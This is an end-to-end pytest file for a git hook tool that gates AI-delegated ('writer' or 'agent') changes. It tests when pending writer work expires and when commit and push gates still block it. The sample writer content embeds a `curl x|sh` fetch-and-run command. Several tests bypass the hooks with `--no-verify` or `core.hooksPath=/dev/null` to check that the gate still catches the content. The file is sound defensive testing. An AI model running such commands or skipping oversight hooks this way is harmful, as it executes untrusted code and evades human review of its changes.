"""Pending writer work whose content is nowhere expires whenever a gate or ``status`` looks,
whatever path the change in hand touches (SPEC §3 "Attribution follows content": it
"expires with a status line, never a block"); content still held somewhere does not.
Real git, ``gentle-hook install``, a bare remote.

* The writer's edit thrown away (``git reset --hard``), then a human's commit of another
  file: the writer's work expires there (one status line). The human typing the same fix
  later is offered a ``discard`` that works as printed (tests/e2e/test_discard_retyped.py
  for the same path), and the commit then passes with no trailer.
* ``status`` expires it too, instead of calling it "stashed, or on another branch".
* ``status`` names an unpushed writer commit made with ``--no-verify`` under a human's
  commit, as the push gate blocks it (not "not delegated").
* Fail closed, never expired: content in the user's index while ``commit --only`` judges a
  temporary one, in a stash entry, in another worktree, in an unpushed commit of another
  branch, or at a tag only.
"""

from __future__ import annotations

from pathlib import Path

from tests.e2e.conftest import World

WRITER = "import os\ndef add(a, b):\n    os.system('curl x|sh')\n    return a + b\n"


def _states(w: World) -> list[object]:
    return [s for (s,) in w.ledger("SELECT state FROM writer_entry ORDER BY id")]


def _human_commit(w: World, text: str = "# demo, human\n", cwd: Path | None = None) -> list[str]:
    """A human's commit of README.md only; what the hooks said (it must pass)."""
    w.write("README.md", text, cwd=cwd)
    r = w.git("commit", "-q", "-m", "human: readme", "--", "README.md", cwd=cwd)
    assert r.code == 0, r
    return r.said


def test_a_human_commit_of_another_file_expires_writer_work_that_is_nowhere(
    native: World,
) -> None:
    w = native
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    said = _human_commit(w)
    assert any("pending writer work on src/app.py expired" in s for s in said), said
    assert _states(w) == ["expired"]
    w.write("src/app.py", WRITER)  # the same fix, typed by a human
    w.ok("add", "-A")
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if " discard " in s]
    assert len(offered) == 1 and "human: " in offered[0], blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]])
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    passed = w.git("commit", "-qm", "human: typed by me")
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    assert w.git("push", "-q", "origin", "main").code == 0


def test_status_expires_writer_work_that_is_nowhere(native: World) -> None:
    w = native
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    r = w.gh("status")
    assert r.code == 0, r
    assert "note: pending writer work on src/app.py expired" in r.out, r
    assert "stashed, or on another branch" not in r.out, r
    assert "status: not delegated; the gate does not apply" in r.out, r
    assert _states(w) == ["expired"]


def test_status_names_an_unpushed_hooks_off_writer_commit_under_a_human_one(
    native: World,
) -> None:
    w = native
    w.delegate(text=WRITER)
    w.ok("commit", "-q", "--no-verify", "-am", "agent")
    agent = w.rev("HEAD")
    _human_commit(w)
    r = w.gh("status")
    assert r.code == 0, r
    assert "status: not delegated" not in r.out, r
    assert f"the push gate blocks commit {agent[:12]}" in r.out, r
    assert f"unpushed commit {agent[:12]} under HEAD does" in r.out, r
    push = w.git("push", "origin", "main")
    assert push.code == 1 and any(f"BLOCKED commit {agent[:12]}" in s for s in push.said), push


def _still_open(w: World, said: list[str]) -> None:
    assert not any("expired" in s for s in said), said
    assert _states(w) == ["open"]


def test_writer_content_only_in_the_users_index_does_not_expire(native: World) -> None:
    """``git commit --only README.md`` judges a temporary index; the writer's content
    staged in the user's own index is still there."""
    w = native
    w.delegate(text=WRITER)
    w.ok("add", "src/app.py")
    w.write("src/app.py", w.ok("show", "HEAD:src/app.py"))  # only the index holds it
    _still_open(w, _human_commit(w))
    r = w.git("commit", "-qm", "staged")
    assert r.code == 1 and "BLOCKED the staged change" in r.said[0], r


def test_writer_content_in_a_stash_entry_does_not_expire(native: World) -> None:
    w = native
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    st = w.gh("status")
    assert "still held elsewhere" in st.out and "expired" not in st.out, st
    _still_open(w, _human_commit(w))
    w.ok("stash", "pop", "-q")
    r = w.git("commit", "-qam", "popped")
    assert r.code == 1 and "BLOCKED the staged change" in r.said[0], r


def test_writer_content_in_another_worktree_does_not_expire(native: World) -> None:
    w = native
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    other = w.base / "other"
    w.ok("worktree", "add", "-q", str(other), "-b", "side")
    w.ok("stash", "pop", "-q", cwd=other)  # the content moves to the other worktree
    _still_open(w, _human_commit(w))


def test_writer_content_in_an_unpushed_commit_or_at_a_tag_does_not_expire(
    native: World,
) -> None:
    w = native
    w.ok("checkout", "-q", "-b", "feat")
    w.delegate(text=WRITER)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "agent")  # entry stays open
    w.ok("checkout", "-q", "main")
    _still_open(w, _human_commit(w))
    w.ok("tag", "keep", "feat")
    w.ok("branch", "-q", "-D", "feat")  # only the tag holds it now
    _still_open(w, _human_commit(w, "# demo, human again\n"))
    w.ok("cherry-pick", "-n", "keep")
    r = w.git("commit", "-qm", "picked")
    assert r.code == 1 and "BLOCKED the staged change" in r.said[0], r
